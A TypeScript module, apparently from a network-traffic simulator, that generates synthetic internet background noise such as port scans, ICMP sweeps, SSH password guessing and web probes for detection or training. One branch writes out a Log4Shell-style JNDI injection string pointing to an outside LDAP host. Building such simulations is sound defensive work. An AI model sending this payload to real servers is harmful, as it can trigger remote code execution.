import { httpConnection } from '../conversations/http.ts'
import { sshSession } from '../conversations/ssh.ts'
import { datagram } from '../flow.ts'
import { opaque } from '../payload.ts'
import { accessLog, notFound } from '../order-site.ts'
import { SECOND } from '../rhythm.ts'
import { outside } from '../scene.ts'
import { SIGNATURES } from '../signatures.ts'
import { firewallDrop, sshdFailed } from '../system-logs.ts'
import { defineActivity } from './define.ts'

export default defineActivity({
  id: 'internet-noise',
  title: 'The noise of the internet',
  doc: 'What knocks on every public address all day: single SYNs that are dropped or refused, sweeps, password guessing at vpn-01, probes for other peoples mistakes. It raises alerts that matter little.',
  perMinute: 12,
  steady: true,
  play(scene, at) {
    const { random, world } = scene
    // Drops come from everywhere; what raises alerts comes from a few, so that a queue stays readable.
    const stranger = outside(`198.51.100.${random.int(200, 252)}`)
    const regular = outside(random.pick(['203.0.113.12', '198.51.100.112', '203.0.113.88']))
    const target = world.host(random.pick(['web-01', 'mail-01', 'vpn-01']))
    const kind = random.weighted([['drop', 60], ['refuse', 22], ['sweep', 3], ['ssh', 6], ['jndi', 0.5], ['smb', 1.2], ['agent', 2]] as const) // prettier-ignore
    switch (kind) {
      case 'drop': {
        const port = random.pick([23, 445, 1433, 3389, 5900, 6379, 8080, 8443, 9200, 2222, 5060])
        const tcp = scene.tcp(stranger, target, port, at)
        tcp.say.unanswered(random.int(1, 2))
        tcp.over(null, 'S0')
        firewallDrop(scene, at, stranger.ip, target.ip, tcp.client.port, port)
        return
      }
      case 'refuse': {
        const tcp = scene.tcp(stranger, target, random.pick([21, 22, 81, 110, 587, 8081]), at)
        tcp.say.refused()
        tcp.over(null, 'REJ')
        return
      }
      case 'sweep': {
        for (const [i, name] of ['web-01', 'mail-01', 'vpn-01'].entries()) {
          const payload = opaque(`ping/${random.hex(6)}`, 32)
          const time = at + i * 21_000
          const packets = [datagram(time, true, payload, 8), datagram(time + 180, false, payload, 0)]
          scene.datagrams(
            'icmp',
            { ip: '203.0.113.12', port: 8 },
            { ip: world.host(name).ip, port: 0 },
            packets,
            null,
            [],
            i === 2 ? [{ at: time, signature: SIGNATURES.icmpSweep, toServer: true, transaction: null }] : [],
          )
        }
        return
      }
      case 'ssh': {
        const guesser = outside('203.0.113.140')
        const vpn01 = world.host('vpn-01')
        const session = sshSession(scene, guesser, vpn01, at, {
          software: 'libssh2_1.10.0',
          failures: random.int(2, 4),
          success: false,
          work: 0,
          signature: SIGNATURES.sshBruteForce,
        })
        const pid = random.int(900, 60_000)
        for (const time of session.tries)
          sshdFailed(
            scene,
            vpn01,
            time,
            random.pick(['root', 'admin', 'oracle', 'ubuntu', 'test']),
            { ip: guesser.ip, port: session.flow.client.port },
            pid,
            true,
          )
        return
      }
      case 'smb': {
        const tcp = scene.tcp(outside('203.0.113.77'), world.host('mail-01'), 445, at)
        tcp.hits.push({ at, signature: SIGNATURES.smbProbe, toServer: true, transaction: null })
        tcp.say.unanswered(2)
        tcp.over(null, 'S0')
        firewallDrop(scene, at, '203.0.113.77', tcp.server.ip, tcp.client.port, 445)
        return
      }
      default: {
        const jndi = kind === 'jndi'
        const who = jndi ? outside('203.0.113.9') : regular
        const userAgent = jndi
          ? '${jndi:ldap://203.0.113.9:1389/a}'
          : random.pick(['python-requests/2.31.0', 'Go-http-client/1.1', 'zgrab/0.x', 'curl/7.88.1'])
        const { transactions } = httpConnection(scene, who, world.host('web-01'), at, 'order.example.com', [
          {
            ...notFound(random.pick(['/', '/.env', '/wp-login.php', '/actuator/health', '/cgi-bin/luci']), userAgent, scene),
            asked: jndi ? SIGNATURES.jndi : SIGNATURES.toolAgent,
          },
        ])
        for (const transaction of transactions) accessLog(scene, who.ip, transaction)
        if (jndi) firewallDrop(scene, at + SECOND, world.host('web-01').ip, '203.0.113.9', 40_112, 1389)
      }
    }
  },
})
